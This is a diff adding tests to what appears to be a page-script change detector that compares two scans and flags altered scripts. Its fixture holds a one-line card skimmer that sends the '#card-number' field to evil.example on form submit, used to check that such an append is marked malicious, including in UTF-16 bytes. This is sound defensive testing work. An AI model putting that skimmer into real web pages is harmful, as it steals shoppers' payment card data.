@@ -18,6 +18,20 @@ const sum = 'function total(items) { return items.reduce(function (a, b) { retur
 const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`
 
 describe('two scans of a page', () => {
+  it('name the lines of very many places in a long script at once, each kind of line end counted', () => {
+    const many = Array.from({ length: 3_000 }, (_, n) => `fetch('https://h${n}.example/')${['\n', '\r', '\u2028'][n % 3]}`).join('')
+    const [change] = compareVisited(visit([]), visit([script(app, many)])).changes
+    expect(change?.reasons.length).toBeLessThanOrEqual(41)
+    expect(change?.lines[0]?.after?.[0]).toBe(1)
+    expect(change?.lines.at(-1)?.after?.[1]).toBeGreaterThan(100)
+  })
+
+  it('read bytes as browsers do: what is appended to a script in UTF-16 is seen', () => {
+    const utf16 = (text: string) => new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')])
+    const given = (text: string): Visit => visit([makeScript(bodies, { url: app, bytes: utf16(text) })])
+    expect(compareVisited(given(sum), given(steals)).changes).toMatchObject([{ verdict: 'malicious' }])
+  })
+
   it('that saw the same have no change and leave nothing out', () => {
     const one = visit([script(app, sum), script(null, 'var cart = 1'), script(tag, 'var t = 2')])
     expect(compareVisited(one, one)).toEqual({
@@ -101,6 +115,7 @@ describe('two scans of a page', () => {
         why: { code: 'no-content', given: { scan: 'before' }, sentence: 'The scan before did not get its content.' },
       },
     ])
+    expect(compareVisited(visit([ran]), visit([script(app, steals)])).summary.scripts).toMatchObject({ same: 0, changed: 0 })
   })
 
   it('tell a new script that does not run quietly', () => {
@@ -120,6 +135,7 @@ describe('two scans of a page', () => {
     const unsure = compareVisited(one, visit([], partial('timeout')))
     expect(unsure.changes).toEqual([])
     expect(unsure.notCompared.map(({ subject }) => subject)).toContain('shop.example/app.js')
+    expect(unsure.summary.scripts).toEqual({ same: 0, changed: 0, added: 0, removed: 0 })
     expect(told(compareVisited(one, visit([], partial('dialog-held'))))).toEqual(['script-removed rebuild: script-removed'])
   })
 
